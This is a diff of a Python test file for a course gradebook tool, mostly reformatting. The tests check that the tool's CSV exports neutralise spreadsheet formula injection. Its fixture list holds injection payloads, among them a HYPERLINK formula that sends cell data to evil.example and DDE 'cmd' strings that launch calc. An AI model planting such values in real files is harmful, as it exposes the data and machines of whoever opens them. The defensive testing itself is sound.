@@ -19,7 +19,7 @@ from course.term.gradebook import GradeRow, write_course_totals, write_grades_cs
 from tests.support.helpers import ROOT
 
 HOSTILE_NAMES = [
-    'Smith;=HYPERLINK("http://evil.example/?"&A1;"x")',   # `;` as the list separator: "=HYPERLINK(..." is a cell
+    'Smith;=HYPERLINK("http://evil.example/?"&A1;"x")',  # `;` as the list separator: "=HYPERLINK(..." is a cell
     "Doe;-2+3+cmd|' /C calc'!A0",
     "Tab\t@SUM(1+1)*cmd|' /C calc'!A0",
     'Quote;"=1+1"',
@@ -44,8 +44,11 @@ def cells_a_spreadsheet_might_see(text: str) -> list[str]:
 
 
 def formula_cells(text: str) -> list[str]:
-    return [cell for cell in cells_a_spreadsheet_might_see(text)
-            if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell.rstrip(' "'))]
+    return [
+        cell
+        for cell in cells_a_spreadsheet_might_see(text)
+        if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell.rstrip(' "'))
+    ]
 
 
 def every_field_quoted(text: str) -> bool:
@@ -58,8 +61,11 @@ def every_field_quoted(text: str) -> bool:
 @pytest.fixture
 def hostile_course(course_root):
     students = [f"s{index}" for index in range(len(HOSTILE_NAMES))]
-    write_grades_csv(course_root / "grades-autograd.csv", ("slopes",),
-                     [GradeRow(student, {"slopes": 3}, 44.6, 57, "graded", late_penalty=-1.5) for student in students])
+    write_grades_csv(
+        course_root / "grades-autograd.csv",
+        ("slopes",),
+        [GradeRow(student, {"slopes": 3}, 44.6, 57, "graded", late_penalty=-1.5) for student in students],
+    )
     with (course_root / "roster.csv").open("w", newline="", encoding="utf-8") as stream:
         writer = csv.writer(stream)
         writer.writerow(["student_id", "name", "lms_id", "section", "email"])
@@ -70,18 +76,23 @@ def hostile_course(course_root):
 
 @pytest.mark.parametrize("fmt", ["canvas", "moodle"])
 def test_lms_exports_hold_no_formula_however_a_spreadsheet_splits_them(hostile_course, fmt):
-    assert main(["--course", str(hostile_course), "export", "--format", fmt,
-                 "--roster", str(hostile_course / "roster.csv")]) == 0
+    assert (
+        main(
+            ["--course", str(hostile_course), "export", "--format", fmt, "--roster", str(hostile_course / "roster.csv")]
+        )
+        == 0
+    )
     text = (hostile_course / f"{fmt}-autograd.csv").read_text(encoding="utf-8")
     assert formula_cells(text) == []
     assert every_field_quoted(text)
     rows = list(csv.reader(io.StringIO(text, newline="")))
-    names = [row[0 if fmt == "canvas" else 1] for row in rows[2 if fmt == "canvas" else 1:]]
+    names = [row[0 if fmt == "canvas" else 1] for row in rows[2 if fmt == "canvas" else 1 :]]
     # the names are all there, each still readable as what the roster said (an apostrophe before a formula start;
     # the roster's reader reads a lone carriage return as a line break)
     assert [name.replace("'", "") for name in names] == [
-        name.replace("'", "").replace("\r", "\n") for name in HOSTILE_NAMES]
-    assert {row[-1] for row in rows[2 if fmt == "canvas" else 1:]} == {"44.6"}  # numbers stay numbers
+        name.replace("'", "").replace("\r", "\n") for name in HOSTILE_NAMES
+    ]
+    assert {row[-1] for row in rows[2 if fmt == "canvas" else 1 :]} == {"44.6"}  # numbers stay numbers
 
 
 def test_grades_and_totals_csv_quote_every_field_and_keep_numbers(hostile_course):
@@ -101,8 +112,11 @@ def test_grades_and_totals_csv_quote_every_field_and_keep_numbers(hostile_course
 def test_every_csv_the_package_writes_goes_through_the_one_writer():
     """csv.writer and DictWriter appear only in course/core/text.py (csv_text): a new CSV cannot forget the rule."""
     writers = re.compile(r"csv\.(?:writer|DictWriter)\(")
-    found = [str(path.relative_to(ROOT)) for path in sorted((ROOT / "course").rglob("*.py"))
-             if writers.search(path.read_text(encoding="utf-8")) and path != ROOT / "course" / "core" / "text.py"]
+    found = [
+        str(path.relative_to(ROOT))
+        for path in sorted((ROOT / "course").rglob("*.py"))
+        if writers.search(path.read_text(encoding="utf-8")) and path != ROOT / "course" / "core" / "text.py"
+    ]
     assert found == []
     assert writers.search((ROOT / "course" / "core" / "text.py").read_text(encoding="utf-8"))
 
@@ -110,8 +124,10 @@ def test_every_csv_the_package_writes_goes_through_the_one_writer():
 def test_the_tokens_csv_is_written_by_the_one_writer_too(course_root):
     roster = course_root / "roster.csv"
     roster.write_text("student_id,name\nalice,Alice\n", encoding="utf-8")
-    assert main(["--course", str(course_root), "serve", "tokens", str(roster),
-                 "--out", str(course_root / "tokens.csv")]) == 0
+    assert (
+        main(["--course", str(course_root), "serve", "tokens", str(roster), "--out", str(course_root / "tokens.csv")])
+        == 0
+    )
     text = Path(course_root / "tokens.csv").read_text(encoding="utf-8")
     assert every_field_quoted(text)
     assert text.startswith('"student_id","token","new"\n"alice","')
